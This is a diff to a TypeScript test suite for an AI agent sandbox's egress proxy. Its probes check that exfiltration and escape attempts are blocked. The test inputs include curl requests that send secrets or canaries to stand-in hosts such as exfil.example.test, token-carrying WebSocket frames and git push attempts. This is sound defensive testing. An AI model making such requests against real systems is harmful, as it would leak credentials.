@@ -101,15 +101,17 @@ engineTest(
     const marker = () => `m${randomHex(6)}`;
     const startup = performance.now() - suiteStarted;
 
-    const timings: { name: string; ok: boolean; ms: number; why?: string }[] = [];
-    const probe = async (name: string, fn: () => void | Promise<void>) => {
+    const timings: { name: string; ok: boolean; ms: number; why?: string; seenAs?: string }[] = [];
+    const probe = async (name: string, fn: () => unknown) => {
       const started = performance.now();
       let why: string | undefined;
+      let seenAs: string | undefined;
       const ok = await t.step({
         name,
         fn: async () => {
           try {
-            await fn();
+            const observed = await fn();
+            if (typeof observed === "string") seenAs = observed;
           } catch (error) {
             why = (error instanceof Error ? error.message : String(error)).split("\n")[0];
             throw error;
@@ -119,7 +121,7 @@ engineTest(
         sanitizeResources: false,
         sanitizeExit: false,
       });
-      timings.push({ name, ok, ms: performance.now() - started, why });
+      timings.push({ name, ok, ms: performance.now() - started, why, seenAs });
     };
     const blocked = async (
       name: string,
@@ -130,10 +132,11 @@ engineTest(
     ) =>
       await probe(name, async () => {
         const r = await kit.curl(args, { secret });
-        await kit.assertCurlBlocked(r, rules);
+        const seenAs = await kit.assertCurlBlocked(r, rules);
         // A block names the host; when the secret IS the host the agent only gets back its own
         // input, so only the log scan at the end matters there.
         if (secret !== undefined && !options.echoesHost) assertNoSecretInReply(r, secret);
+        return seenAs;
       });
 
     // The agent's own environment (canary, placeholders), dumped by the prompt.
@@ -208,7 +211,7 @@ engineTest(
       // host_not_allowlisted, never a resolution error. (Whether the sidecar's own resolver saw a
       // query is not observable from here; SPEC §6.5 tests assert what the agent observes.)
       const c = await kit.curl("https://c2VjcmV0.exfil.example.test/");
-      await kit.assertCurlBlocked(c, "host_not_allowlisted");
+      return `getent rc=2; proxy: ${await kit.assertCurlBlocked(c, "host_not_allowlisted")}`;
     });
 
     // ---------------------------------------------------------------- authority agreement
@@ -217,8 +220,9 @@ engineTest(
       // would answer 200 to Host unlisted.example.test.
       const m = marker();
       const r = await kit.curl(`'${ECHO}?${m}' -H 'Host: unlisted.example.test'`);
-      await kit.assertCurlBlocked(r, "authority_mismatch");
+      const seenAs = await kit.assertCurlBlocked(r, "authority_mismatch");
       assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
+      return seenAs;
     });
 
     await probe("SNI different from the CONNECT host", async () => {
@@ -238,6 +242,7 @@ engineTest(
         assertRawBlocked(firstRawReply(report), "authority_mismatch", describeRaw(report));
       }
       assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
+      return describeRaw(report);
     });
 
     await probe("keep-alive: a second request for another host on one TLS connection", async () => {
@@ -261,6 +266,7 @@ engineTest(
         ),
         "a token was injected into the switched request",
       );
+      return describeRaw(report);
     });
 
     // ---------------------------------------------------------------- request hygiene
@@ -299,6 +305,7 @@ engineTest(
         const report = await kit.raw({ connect: "echo.example.test:443", requests: [build(m)] });
         assertRawBlocked(firstRawReply(report), "malformed_request", describeRaw(report));
         assert.equal(seen((x) => x.query.includes(m)).length, 0, "forwarded to upstream");
+        return describeRaw(report);
       });
     }
 
@@ -317,6 +324,7 @@ engineTest(
       assert.ok(!/HTTP\/1\.[01] 200/.test(report.raw?.data ?? ""), describeRaw(report));
       assert.equal(report.raw?.closed, true, `tunnel left open: ${describeRaw(report)}`);
       assert.equal(seen((x) => x.query.includes(m)).length, 0, "bytes reached the upstream");
+      return describeRaw(report);
     });
 
     await probe(
@@ -331,6 +339,7 @@ engineTest(
         assert.equal(report.tls?.ok, true, describeRaw(report));
         assert.notEqual(report.tls?.issuer, TEST_CA_NAME, "the TLS session was a raw tunnel");
         assert.equal(report.responses[0]?.status, 200, describeRaw(report));
+        return describeRaw(report);
       },
     );
 
@@ -339,7 +348,7 @@ engineTest(
       // Would pass wrongly if the proxy injected the token into clear text: it would forward the
       // request (and answer 502 from the TLS-only fixture port) instead of this 403.
       const r = await kit.curl("http://api.example.test/echo");
-      await kit.assertCurlBlocked(r, "plain_http_with_auth");
+      return await kit.assertCurlBlocked(r, "plain_http_with_auth");
     });
 
     await probe("the upstream gets the token; an echo of it never reaches the agent", async () => {
@@ -361,6 +370,9 @@ engineTest(
       assert.equal(sse.replies.at(-1)?.status, 200, describeCurl(sse));
       assert.equal((sse.stdout.match(/^data: event-/gm) ?? []).length, 3, describeCurl(sse));
       assert.ok(!sse.stdout.includes(token) && !sse.stderr.includes(token), "token in SSE");
+      return `upstream got the token; the agent saw authorization ${
+        JSON.stringify(echoed.headers.authorization)
+      }`;
     });
 
     // ---------------------------------------------------------------- outbound DLP
@@ -411,9 +423,12 @@ engineTest(
       const status = r.replies.at(-1)?.status;
       if (status === 403) await kit.assertCurlBlocked(r, "dlp_outbound");
       else assert.equal(status, 200, describeCurl(r));
-      for (const x of seen((x) => x.query.includes(m))) {
+      const forwarded = seen((x) => x.query.includes(m));
+      for (const x of forwarded) {
         assert.ok(!JSON.stringify(x.headers).includes(token), "forwarded the agent's header");
       }
+      return `${describeCurl(r).split(";")[1]}; upstream requests ${forwarded.length}, ` +
+        `authorization there: ${JSON.stringify(forwarded[0]?.headers.authorization ?? null)}`;
     });
     // Would pass wrongly if hostnames were not checked before (or scanned by) the proxy: the
     // CONNECT itself carries the value.
@@ -429,9 +444,10 @@ engineTest(
       // §7.4 blocks at once. Would pass wrongly if supervise forwarded unapproved requests.
       const m = marker();
       const r = await kit.curl(`'https://ws.example.test/echo?${m}='"$S"`, { secret: token });
-      await kit.assertCurlBlocked(r, "supervise_unavailable");
+      const seenAs = await kit.assertCurlBlocked(r, "supervise_unavailable");
       assertNoSecretInReply(r, token);
       assert.equal(seen((x) => x.query.includes(m)).length, 0, "forwarded");
+      return seenAs;
     });
     await probe("the canary blocks on a block route and on a supervise route", async () => {
       // Would pass wrongly if the canary were not a known secret of the proxy: 200 from upstream.
@@ -441,7 +457,7 @@ engineTest(
         assertNoSecretInReply(r, canary);
       }
       const body = await kit.curl(`-d "x=$S" '${ECHO}'`, { secret: canary });
-      await kit.assertCurlBlocked(body, "canary");
+      return await kit.assertCurlBlocked(body, "canary");
     });
 
     // ---------------------------------------------------------------- git push
@@ -464,6 +480,10 @@ engineTest(
             )
           }`,
         );
+        return `git exit ${r.code}; ${
+          r.stderr.split("\n").filter((l) => /Recv header: X-Bot-Bottle-Block/i.test(l))[0]
+            ?.replace(/^.*<= /, "")
+        }`;
       });
       await blocked(
         `POST to git-receive-pack on ${host}`,
@@ -533,6 +553,9 @@ engineTest(
         assert.equal(r.replies.length, 0, `${names[i]} got an HTTP answer: ${describeCurl(r)}`);
       });
       assert.equal(seen((x) => x.path === "/echo" && x.headers.host?.includes(":")).length, 0);
+      return attempts.map((r, i) =>
+        `${names[i]}: ${/curl: \(\d+\)[^\n]*/.exec(r.stderr)?.[0] ?? `exit ${r.code}`}`
+      ).join("; ");
     });
 
     await probe(
@@ -554,6 +577,7 @@ engineTest(
         assert.match(r.stdout, /^sidecar=10\./m, r.stdout);
         assert.match(r.stdout, /^egress-port-ok$/m, "the probe itself cannot reach the proxy");
         assert.equal(r.stdout.match(/^open .*$/gm), null, `reachable: ${r.stdout}`);
+        return `nothing reachable but egress:9099 (${r.stdout.match(/^sidecar=.*$/m)?.[0]})`;
       },
     );
 
@@ -588,6 +612,7 @@ engineTest(
       );
       const upgrade = upstream.requests.slice(before).find((x) => x.path === "/ws");
       assert.equal(upgrade?.headers["sec-websocket-extensions"], undefined, "extensions kept");
+      return describeRaw(report);
     });
     const wsFrames: [string, { fin?: boolean; opcode: number; payload: string }[]][] = [
       ["a text frame", [{ opcode: 1, payload: `token=${token}` }]],
@@ -614,6 +639,7 @@ engineTest(
           `not closed: ${describeRaw(report)}`,
         );
         assert.ok(!upstream.wsMessages.some((x) => x.data.includes(token)), "reached upstream");
+        return describeRaw(report);
       });
     }
     await probe(
@@ -633,6 +659,7 @@ engineTest(
           timeoutMs: 8_000,
         });
         assert.ok(!JSON.stringify(injected).includes("evil.example.test"), describeRaw(injected));
+        return `token frame: ${describeRaw(report)} || injection: ${describeRaw(injected)}`;
       },
     );
 
@@ -648,12 +675,14 @@ engineTest(
       assert.equal(same.replies.at(-1)?.status, 302, describeCurl(same));
       assert.equal(seen((x) => x.host.startsWith("other.example.test")).length, 0, "followed");
       assert.equal(seen((x) => x.path === "/landing").length, 0, "followed the same-host one");
+      return "302 handed back twice; the fixture saw no /landing";
     });
     await probe("inbound prompt injection is blocked", async () => {
       // Would pass wrongly without the inbound scan: the agent would read the fixture's text.
       const r = await kit.curl("https://ws.example.test/inject");
-      await kit.assertCurlBlocked(r, "dlp_inbound");
+      const seenAs = await kit.assertCurlBlocked(r, "dlp_inbound");
       assert.ok(!r.stdout.includes("evil.example.test"), "the injection reached the agent");
+      return seenAs;
     });
 
     // ---------------------------------------------------------------- hardening, not probed here
@@ -688,6 +717,8 @@ engineTest(
       const r = await kit.curl(`--http2 '${ECHO}?h2'`);
       assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
       assert.equal(JSON.parse(r.stdout).method, "GET");
+      return /ALPN: server accepted (\S+)/.exec(r.stderr)?.[0] ??
+        /ALPN[^\n]*/.exec(r.stderr)?.[0] ?? "no ALPN line";
     });
     await probe("allowed: node fetch with NODE_USE_ENV_PROXY=1 (Node 22.21+)", async () => {
       const r = await bottle.exec(
@@ -696,18 +727,23 @@ engineTest(
           ".catch((e) => { console.log('error', e.cause?.code ?? e.message); process.exit(1); })\"",
       );
       assert.equal(r.stdout.trim(), "200 GET", `${r.stdout} ${r.stderr}`);
+      return r.stdout.trim();
     });
     await probe("allowed: SSE arrives event by event", async () => {
-      // Would pass wrongly... the other way round: a buffering proxy delivers all events at once.
+      // Each event carries the fixture's send time (same clock: the containers share the host's
+      // kernel). A proxy that holds events (buffers the stream) shows up as a large lag.
       const r = await bottle.exec(
         "curl -sS -N -m 30 'https://echo.example.test/sse?n=5&delay=400' | " +
           'while IFS= read -r line; do case "$line" in data:*) echo "$(date +%s%3N) $line";; esac; done',
       );
-      const times = r.stdout.trim().split("\n").filter((l) => l !== "").map((l) =>
-        Number(l.split(" ")[0])
-      );
-      assert.equal(times.length, 5, `events: ${r.stdout} ${r.stderr}`);
-      assert.ok(times[4] - times[0] >= 1000, `events were buffered: ${r.stdout}`);
+      const events = r.stdout.trim().split("\n").filter((l) => l !== "").map((l) => {
+        const m = /^(\d+) data: event-(\d+) sent=(\d+)/.exec(l);
+        return m ? { i: Number(m[2]), lag: Number(m[1]) - Number(m[3]) } : { i: -1, lag: NaN };
+      });
+      assert.deepEqual(events.map((e) => e.i), [0, 1, 2, 3, 4], `events: ${r.stdout} ${r.stderr}`);
+      const lags = events.map((e) => e.lag);
+      assert.ok(lags.every((lag) => lag < 300), `events held back (ms after sending): ${lags}`);
+      return `lags ${lags} ms`;
     });
     await probe("allowed: a large response streams through", async () => {
       const r = await kit.curl(
@@ -787,9 +823,15 @@ engineTest(
         const logs = await containerLogs(bottle.client, bottle.sidecarId);
         const logText = new TextDecoder().decode(logs.stdout) +
           new TextDecoder().decode(logs.stderr);
-        assert.ok(!logText.includes(token), "the sidecar's log holds the token");
-        assert.ok(!logText.includes(aws), "the sidecar's log holds the AWS-shaped key");
-        assert.ok(!logText.includes(canary), "the sidecar's log holds the canary");
+        for (const [what, value] of [["token", token], ["AWS key", aws], ["canary", canary]]) {
+          const lines = logText.split("\n").filter((l) => l.includes(value));
+          const shown = lines.map((l) => l.replaceAll(value, `<${what}>`).slice(0, 300));
+          assert.equal(
+            lines.length,
+            0,
+            `the sidecar's log holds the ${what}: ${shown.join(" | ")}`,
+          );
+        }
         for (const image of images) {
           const history = await bottle.client.requestJson<unknown>(
             "GET",
@@ -808,7 +850,8 @@ engineTest(
       [
         ...timings.map((x) =>
           `${x.ok ? "pass" : "FAIL"} ${(x.ms / 1000).toFixed(1).padStart(5)} s  ${x.name}` +
-          (x.why ? `\n             ${x.why.slice(0, 400)}` : "")
+          (x.why ? `\n             ${x.why.slice(0, 400)}` : "") +
+          (x.seenAs ? `\n             observed: ${x.seenAs.slice(0, 300)}` : "")
         ),
         `escape suite: ${timings.length - failed.length}/${timings.length} probes passed; ` +
         `bottle up in ${(startup / 1000).toFixed(1)} s, suite ${(total / 1000).toFixed(1)} s`,
